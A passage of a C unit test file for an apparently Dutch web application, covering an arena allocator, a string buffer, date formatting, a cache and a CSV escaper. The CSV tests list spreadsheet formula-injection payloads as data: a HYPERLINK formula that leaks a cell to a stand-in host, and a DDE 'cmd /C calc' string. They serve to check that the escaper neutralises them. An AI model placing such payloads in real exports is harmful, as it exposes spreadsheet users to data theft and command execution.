	unsigned char *b = arena_alloc(a, big);
	CHECK((uintptr_t)b % 16 == 0, "arena_alloc: large allocation aligned");
	bool bz = true;
	for (size_t k = 0; k < big; k++)
		if (b[k])
			bz = false;
	CHECK(bz, "arena_alloc: large allocation zeroed");
	memset(b, 0x5A, big); /* ASan catches an undersized block */
	unsigned char *c = arena_alloc(a, 32);
	CHECK((uintptr_t)c % 16 == 0 && (c + 32 <= b || c >= b + big),
	      "arena_alloc: allocation after a large one does not overlap it");
	CHECK(b[big - 1] == 0x5A && b[0] == 0x5A, "arena_alloc: large block intact");

	/* Many chunks' worth of allocations, all distinct and writable. */
	char *ptrs[2000];
	for (int i = 0; i < 2000; i++) {
		ptrs[i] = arena_printf(a, "regel %d", i);
	}
	bool kept = true;
	for (int i = 0; i < 2000; i++) {
		char want[32];
		snprintf(want, sizeof want, "regel %d", i);
		if (strcmp(ptrs[i], want) != 0)
			kept = false;
	}
	CHECK(kept, "arena_printf: 2000 strings across chunks all intact");

	char *s = arena_strdup(a, "hallo");
	CHECK_STR(s, "hallo", "arena_strdup");
	char *sn = arena_strndup(a, "hallo wereld", 5);
	CHECK_STR(sn, "hallo", "arena_strndup cuts at n");
	char *longp = arena_printf(a, "%s-%0*d", "x", 20000, 7);
	CHECK_INT(strlen(longp), 20002, "arena_printf: longer than a chunk");
	CHECK(longp[20001] == '7' && longp[2] == '0', "arena_printf: long content right");
	arena_free(a);
	arena_free(NULL);
	T_OK("arena_free(NULL) is harmless");
}

static void test_strbuf(void)
{
	strbuf sb = {0};
	CHECK_STR(sb_str(&sb), "", "strbuf: zero value is the empty string");
	sb_puts(&sb, "Eén");
	sb_putc(&sb, ' ');
	sb_printf(&sb, "%s %d", "Loket", 2026);
	CHECK_STR(sb_str(&sb), "Eén Loket 2026", "strbuf: puts, putc, printf");
	CHECK_INT(sb.len, strlen("Eén Loket 2026"), "strbuf: len in bytes");
	sb_append(&sb, "xyz", 0);
	CHECK_INT(sb.len, strlen("Eén Loket 2026"), "strbuf: append of 0 bytes");
	for (int i = 0; i < 1000; i++)
		sb_printf(&sb, "%04d", i);
	CHECK_INT(sb.len, strlen("Eén Loket 2026") + 4000, "strbuf: grows past its first block");
	CHECK(sb.buf[sb.len] == '\0' && sb.cap > sb.len, "strbuf: NUL-terminated with room");
	CHECK(memcmp(sb.buf + sb.len - 4, "0999", 4) == 0, "strbuf: content at end right");
	sb_append(&sb, "a\0b", 3);
	CHECK(sb.buf[sb.len - 2] == '\0' && sb.buf[sb.len - 1] == 'b', "strbuf: append keeps embedded NUL");
	char *stolen = sb_steal(&sb);
	CHECK(sb.buf == NULL && sb.len == 0 && sb.cap == 0, "strbuf: steal resets");
	CHECK(strncmp(stolen, "Eén Loket", 10) == 0, "strbuf: stolen buffer keeps content");
	free(stolen);
	char *empty = sb_steal(&sb);
	CHECK_STR(empty, "", "strbuf: steal of empty gives \"\"");
	free(empty);
	sb_printf(&sb, "%s", "");
	CHECK_STR(sb_str(&sb), "", "strbuf: printf of empty string");
	sb_free(&sb);
	CHECK(sb.buf == NULL && sb.len == 0, "strbuf: free resets");
	sb_free(&sb);

	char *x = xasprintf("%d-%s", 42, "x");
	CHECK_STR(x, "42-x", "xasprintf");
	free(x);
	char *d = xstrndup("abcdef", 3);
	CHECK_STR(d, "abc", "xstrndup");
	free(d);
}

static void test_misc(void)
{
	CHECK(ct_equal("abc", "abc", 3), "ct_equal: equal");
	CHECK(!ct_equal("abc", "abd", 3), "ct_equal: last byte differs");
	CHECK(!ct_equal("xbc", "abc", 3), "ct_equal: first byte differs");
	CHECK(ct_equal("a", "b", 0), "ct_equal: zero length");
	char iso[21];
	fmt_iso8601(0, iso);
	CHECK_STR(iso, "1970-01-01T00:00:00Z", "fmt_iso8601 epoch");
	fmt_iso8601(1795352700, iso);
	CHECK_STR(iso, "2026-11-22T13:05:00Z", "fmt_iso8601 2026");
	setenv("TZ", "Europe/Amsterdam", 1);
	tzset();
	char nl[20];
	fmt_datetime_nl(1795352700, nl);
	CHECK_STR(nl, "22-11-2026 14:05", "fmt_datetime_nl winter time (CET)");
	fmt_datetime_nl(1783076400, nl);
	CHECK_STR(nl, "03-07-2026 13:00", "fmt_datetime_nl summer time (CEST)");
	int64_t now = now_unix();
	CHECK(now > 1700000000 && now - (int64_t)time(NULL) <= 1, "now_unix is the current time");
}

/* ---- csv_field ------------------------------------------------------------- */

static void test_csv(void)
{
	static const struct { const char *in, *out; } cases[] = {
		{"Jansen", "Jansen"},
		{"", ""},
		{"a;b", "\"a;b\""},
		{"zeg \"hoi\"", "\"zeg \"\"hoi\"\"\""},
		/* The held strings: each would start a formula in Excel. */
		{"=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")",
		 "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Klik\"\")\""},
		{"=1+1", "'=1+1"},
		{"+31 6 12345678", "'+31 6 12345678"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "\"'\r=1+1\""},
		{"=cmd|' /C calc'!A0;x", "\"'=cmd|' /C calc'!A0;x\""},
		{"Straat =1", "Straat =1"},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		strbuf sb = {0};
		csv_field(&sb, cases[i].in);
		CHECK_STR(sb_str(&sb), cases[i].out, "csv_field case %zu", i);
		sb_free(&sb);
	}
}

/* The shared figure cache (src/figcache.c): a value under its key and
 * stamp, never under another stamp or after its expiry, a copy each time. */
static void test_figcache(void)
{
	int64_t v1[2] = {7, 1}, v2[2] = {7, 2};
	json_t *val = json_pack("{s:i}", "n", 42);
	figcache_put("unit|a", v1, 2, 0, val);
	json_t *got = figcache_get("unit|a", v1, 2, 1000);
	CHECK(got && json_integer_value(json_object_get(got, "n")) == 42 && got != val, "figcache: a copy under its stamp");
	json_decref(got);
	CHECK(!figcache_get("unit|a", v2, 2, 1000), "figcache: not under another stamp");
	CHECK(!figcache_get("unit|a", v1, 1, 1000), "figcache: not under a shorter stamp");
	CHECK(!figcache_get("unit|b", v1, 2, 1000), "figcache: not under another key");
	figcache_put("unit|t", NULL, 0, 500, val);
	got = figcache_get("unit|t", NULL, 0, 499);
	CHECK(got != NULL, "figcache: kept until its expiry");
	json_decref(got);
	CHECK(!figcache_get("unit|t", NULL, 0, 500), "figcache: gone at its expiry");
	json_decref(val);
	for (int i = 0; i < 200; i++) {
		char key[32];
		snprintf(key, sizeof key, "unit|fill|%d", i);
		json_t *x = json_integer(i);
		figcache_put(key, v1, 2, 0, x);
		json_decref(x);
	}
	got = figcache_get("unit|fill|199", v1, 2, 0);
	CHECK(got && json_integer_value(got) == 199 && !figcache_get("unit|fill|0", v1, 2, 0),
	      "figcache: the newest stays, the oldest makes room");
	json_decref(got);
}

int main(void)
{
	if (sodium_init() < 0) {
		T_FAIL("sodium_init", "failed");
		T_EXIT();
	}
	test_form_parse();
	test_figcache();
	test_csv();
	test_form_validate();
	test_lengths();
	test_form_validate_json();
	test_utf8();
	test_passwords();
	test_password_blocklist();
	test_bidi();
	test_tokens();
	test_router();
	test_arena();
	test_strbuf();
	test_misc();
	T_EXIT();
}
